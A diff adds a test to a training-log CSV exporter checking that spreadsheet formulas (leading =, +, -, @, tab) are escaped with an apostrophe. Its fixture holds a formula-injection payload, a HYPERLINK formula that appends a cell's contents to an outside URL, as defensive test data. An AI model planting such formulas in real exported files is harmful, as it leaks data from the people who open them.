@@ -92,3 +92,21 @@ def test_a_table_that_cannot_be_finished_leaves_the_old_one(tmp_path):
         History([{"loss": Full(), "step": 2}]).to_csv(path)
     assert path.read_text() == before
     assert [child.name for child in tmp_path.iterdir()] == ["log.csv"]
+
+
+def test_text_that_a_spreadsheet_would_compute_is_kept_as_text(tmp_path):
+    formula = '=HYPERLINK("http://example.com?"&A1)'
+    log = {
+        "step": 1,
+        "loss": -0.5,
+        "note": formula,
+        "@sum": "+1",
+        "more": "-cmd",
+        "tab": "\t=1",
+        "plain": "a=b",
+    }
+    History([log]).to_csv(tmp_path / "log.csv")
+    with open(tmp_path / "log.csv", newline="", encoding="utf-8") as file:
+        header, row = csv.reader(file)
+    assert header == ["step", "loss", "note", "'@sum", "more", "tab", "plain"]
+    assert row == ["1", "-0.5", "'" + formula, "'+1", "'-cmd", "'\t=1", "a=b"]
